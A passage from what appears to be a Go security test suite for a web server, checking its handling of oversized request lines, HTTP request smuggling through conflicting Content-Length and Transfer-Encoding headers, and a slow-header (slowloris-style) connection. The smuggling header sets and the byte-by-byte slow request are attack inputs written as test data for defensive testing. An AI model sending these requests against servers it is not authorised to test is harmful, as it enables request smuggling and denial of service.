		"an address":   "GET /?q=" + strings.Repeat("x", 64<<10) + " HTTP/1.1\r\nHost: " + h.host() + "\r\nConnection: close\r\n\r\n",
	} {
		if answer := h.raw(request); answer != "" && !strings.HasPrefix(answer, "HTTP/1.1 431") {
			h.Errorf("%s: %.60q", name, answer)
		}
	}
	return "431, or the connection ends"
}

func smuggledRequests(h house) string {
	for name, headers := range map[string]string{
		"two lengths":              "Content-Length: 5\r\nContent-Length: 60\r\n",
		"a length and chunks":      "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
		"chunks of a strange kind": "Transfer-Encoding: xchunked\r\n",
		"chunks named twice":       "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
		"a negative length":        "Content-Length: -1\r\n",
		"a length with a sign":     "Content-Length: +5\r\n",
	} {
		answer := h.raw("POST /sign-in/demo HTTP/1.1\r\nHost: " + h.host() + "\r\n" + headers + "\r\n0\r\n\r\nGET /healthz HTTP/1.1\r\nHost: " + h.host() + "\r\nConnection: close\r\n\r\n")
		if strings.Contains(answer, `"status":"ok"`) {
			h.Errorf("%s: a second request is answered:\n%s", name, answer)
		}
	}
	return "refused, and nothing after it on the connection is answered"
}

func slowHeaders(h house) string {
	connection, err := net.Dial("tcp", h.host())
	if err != nil {
		h.Fatal(err)
	}
	defer connection.Close()
	begun := time.Now()
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		_, _ = bufio.NewReader(connection).ReadByte() // an answer or an end
	}()
	for _, b := range []byte("GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + strings.Repeat("z", 1000)) {
		select {
		case <-ended:
			if took := time.Since(begun); took < 3*time.Second || took > 8*time.Second {
				h.Errorf("it was ended after %s", took)
			}
			return fmt.Sprintf("the connection ended after %s", time.Since(begun).Round(time.Second))
		case <-time.After(100 * time.Millisecond):
			_, _ = connection.Write([]byte{b}) // fails when it has ended, which is seen above
		}
	}
	h.Error("the server waits for a minute and a half")
	return ""
}

func TestEveryRouteThatShowsColleaguesIsAmongThePagesAttacked(t *testing.T) {
	all := pages()
	for _, pattern := range []string{"/people/", "/posts/", "/why", "/ask", "/team", "/topics", "/admin/audit", "/tokens"} {
		if !slices.ContainsFunc(all, func(p string) bool { return strings.HasPrefix(p, pattern) }) {
			t.Errorf("no page below %s is attacked", pattern)
		}
	}
}
